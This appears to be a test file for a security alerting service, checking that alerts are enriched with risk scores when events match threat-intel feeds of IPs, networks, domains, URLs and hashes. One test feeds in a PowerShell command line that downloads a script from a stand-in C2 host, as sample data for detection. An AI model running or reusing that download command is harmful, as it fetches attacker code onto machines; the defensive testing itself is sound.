// Enrichment end to end: feeds uploaded through the API, a deployed rule, events ingested through the
// ingest API; an alert on an event carrying a listed IP, network, domain (or subdomain), URL or hash gets
// `enrichment` and `risk_score`; a clean event's alert gets none; deleting a feed stops enrichment of
// later alerts.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describeEachDatabase, type Client } from '../helpers/service.js';
import { createRule, equalsRule, ingest, setUpTeam, type CreatedPattern } from '../rules/fixtures.js';
import { alertsFor, uploadFeed } from './helpers.js';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8');

describeEachDatabase('threat-intel enrichment of alerts', (ctx) => {
  let admin: Client;
  let pattern: CreatedPattern;
  let ipFeed: Record<string, string>;
  let n = 0;

  before(async () => {
    ({ admin, pattern } = await setUpTeam(ctx.service, 'hal', 'ivy', { name: 'netlogs' }));
    await createRule(admin, { yaml_content: equalsRule('Outbound connection', 'action', 'connect'), index_pattern: 'netlogs', deploy: true });
    ipFeed = await uploadFeed(admin, { name: 'C2 IPs', format: 'plain', type: 'ip', content: '192.0.2.10\n2001:db8::10\n', risk_score: 80 });
    await uploadFeed(admin, { name: 'Case tracker', format: 'csv', content: fixture('generic.csv') });
    await uploadFeed(admin, { name: 'STIX bundle', format: 'stix', content: fixture('stix-bundle.json') });
    await uploadFeed(admin, { name: 'ThreatFox', format: 'abusech', content: fixture('threatfox.json') });
  });

  /** Ingests one matching event with `fields` and answers its alert row. */
  async function alertOn(fields: Record<string, unknown>) {
    const marker = `case-${n++}`;
    const response = await ingest(ctx.service, pattern, [{ action: 'connect', case: marker, ...fields }]);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.data.alerts_created, 1, response.body);
    const [alert] = await alertsFor(ctx.service, marker);
    return alert;
  }

  test('an event whose destination IP is listed: enrichment with the indicator, its feed and the field', async () => {
    const alert = await alertOn({ source: { ip: '10.0.0.5' }, destination: { ip: '192.0.2.10' } });
    assert.equal(alert.risk_score, 80);
    assert.equal(alert.enrichment.risk_level, 'high');
    assert.equal(alert.enrichment.risk_score, 80);
    assert.deepEqual(alert.enrichment.indicators, [
      { type: 'ip', value: '192.0.2.10', feed_id: ipFeed.id, feed: 'C2 IPs', matched_field: 'destination.ip', matched_value: '192.0.2.10', score: 80 },
    ]);
    const read = await admin.get(`/api/alerts/${alert.id}`);
    assert.equal(read.statusCode, 200, read.body);
    assert.deepEqual(read.data.enrichment, alert.enrichment);
  });

  test('an event with only clean values raises an alert without enrichment', async () => {
    const alert = await alertOn({ source: { ip: '10.0.0.5' }, destination: { ip: '192.0.2.11', domain: 'clean.example' }, url: { full: 'http://clean.example/' } });
    assert.equal(alert.enrichment, null);
    assert.equal(alert.risk_score, null);
    const read = await admin.get(`/api/alerts/${alert.id}`);
    assert.equal(read.statusCode, 200, read.body);
    assert.equal('enrichment' in read.data, false);
  });

  test('IPv6 addresses are compared in canonical form; the source_ip entity is an observable', async () => {
    const alert = await alertOn({ DestinationIp: '2001:0DB8:0000::0010' });
    assert.equal(alert.enrichment.indicators[0].value, '2001:db8::10');
    assert.equal(alert.enrichment.indicators[0].matched_field, 'DestinationIp');
    const entity = await alertOn({ SourceIp: '192.0.2.10' });
    assert.equal(entity.enrichment.indicators[0].matched_field, 'SourceIp');
  });

  test('addresses inside listed networks match (IPv4 and IPv6), the indicator’s own score wins', async () => {
    const v4 = await alertOn({ destination: { ip: '203.0.113.77' } });
    assert.equal(v4.enrichment.indicators[0].type, 'cidr');
    assert.equal(v4.enrichment.indicators[0].value, '203.0.113.0/24');
    assert.equal(v4.risk_score, 95);
    assert.equal(v4.enrichment.risk_level, 'critical');
    const v6 = await alertOn({ destination: { ip: '2001:db8:bad:1::99' } });
    assert.equal(v6.enrichment.indicators[0].value, '2001:db8:bad::/48');
    assert.equal(v6.risk_score, 75, 'an SCO carries no score: the feed default');
    const outside = await alertOn({ destination: { ip: '203.0.114.1' } });
    assert.equal(outside.enrichment, null);
  });

  test('a listed domain matches itself and its subdomains, not look-alikes', async () => {
    const exact = await alertOn({ dns: { question: { name: 'evil.example' } } });
    assert.equal(exact.enrichment.indicators[0].value, 'evil.example');
    assert.equal(exact.enrichment.indicators[0].matched_field, 'dns.question.name');
    const sub = await alertOn({ QueryName: 'a.b.EVIL.example.' });
    assert.deepEqual(
      { value: sub.enrichment.indicators[0].value, matched_value: sub.enrichment.indicators[0].matched_value, field: sub.enrichment.indicators[0].matched_field },
      { value: 'evil.example', matched_value: 'a.b.evil.example', field: 'QueryName' },
    );
    assert.equal((await alertOn({ QueryName: 'notevil.example' })).enrichment, null);
    assert.equal((await alertOn({ QueryName: 'evil.example.org' })).enrichment, null);
  });

  test('URLs match exactly and through their host; hashes match in hash fields and Sysmon Hashes lists', async () => {
    const url = await alertOn({ url: { full: 'http://stix-c2.example/gate.php' } });
    const types = url.enrichment.indicators.map((i: { type: string }) => i.type).sort();
    assert.deepEqual(types, ['domain', 'url']);
    assert.equal(url.risk_score, 95);
    const sysmon = await alertOn({ Hashes: 'SHA1=0000000000000000000000000000000000000000,MD5=44D88612FEA8A8F36DE82E1278ABB02F,IMPHASH=00000000000000000000000000000000' });
    assert.equal(sysmon.enrichment.indicators[0].value, '44d88612fea8a8f36de82e1278abb02f');
    assert.equal(sysmon.enrichment.indicators[0].feed, 'Case tracker');
    const ecs = await alertOn({ file: { hash: { sha256: 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855' } } });
    assert.equal(ecs.enrichment.indicators[0].matched_field, 'file.hash.sha256');
    assert.equal(ecs.risk_score, 75, 'ThreatFox confidence_level');
  });

  test('indicators inside longer text: an address, a URL with its host and a hash in a command line or message', async () => {
    const alert = await alertOn({
      CommandLine: 'powershell -nop -c "iwr http://stix-c2.example/gate.php -OutFile x.ps1; ping 192.0.2.10."',
      Message: 'Dropped file with MD5 44D88612FEA8A8F36DE82E1278ABB02F (quarantined)',
    });
    const found = alert.enrichment.indicators.map((i: { type: string; value: string; matched_field: string }) => `${i.type} ${i.value} ${i.matched_field}`).sort();
    assert.deepEqual(found, [
      'domain stix-c2.example CommandLine',
      'ip 192.0.2.10 CommandLine',
      'md5 44d88612fea8a8f36de82e1278abb02f Message',
      'url http://stix-c2.example/gate.php CommandLine',
    ]);
    // A file name in text is not a domain; a longer run of hex digits is not a hash.
    const clean = await alertOn({ CommandLine: 'copy invoice.zip C:\\temp 44D88612FEA8A8F36DE82E1278ABB02F00 192.0.2.10.5' });
    assert.equal(clean.enrichment, null, JSON.stringify(clean.enrichment));
  });

  test('several matches: every indicator is listed and the highest score decides the level', async () => {
    const alert = await alertOn({ source: { ip: '192.0.2.10' }, destination: { ip: '203.0.113.99', port: 4443 } });
    const listed = alert.enrichment.indicators.map((i: { feed: string; value: string; score: number }) => `${i.feed} ${i.value} ${i.score}`).sort();
    assert.deepEqual(listed, ['C2 IPs 192.0.2.10 80', 'Case tracker 203.0.113.0/24 95', 'ThreatFox 203.0.113.99 100']);
    assert.equal(alert.risk_score, 100);
    assert.equal(alert.enrichment.risk_level, 'critical');
    const medium = await alertOn({ QueryName: 'c2.badactor.example' });
    assert.equal(medium.risk_score, 50);
    assert.equal(medium.enrichment.risk_level, 'medium');
  });

  test('after a feed is deleted, later alerts are no longer enriched from it', async () => {
    assert.equal((await alertOn({ destination: { ip: '192.0.2.10' } })).risk_score, 80);
    assert.equal((await admin.delete(`/api/threat_intel/feeds/${ipFeed.id}`)).statusCode, 204);
    const after = await alertOn({ destination: { ip: '192.0.2.10' } });
    assert.equal(after.enrichment, null);
  });

  test('a restarted lookup loads the stored feeds', async () => {
    const { ThreatIntelLookup } = await import('../../src/threat-intel/lookup.js');
    const fresh = await ThreatIntelLookup.open(ctx.service.db, { follow: false });
    try {
      const enrichment = fresh.enrich({ dns: { question: { name: 'www.evil.example' } } }, {});
      assert.equal(enrichment?.indicators[0].value, 'evil.example');
      assert.equal(fresh.enrich({ destination: { ip: '192.0.2.10' } }, {}), undefined, 'the deleted feed is not loaded');
    } finally {
      await fresh.close();
    }
  });
});
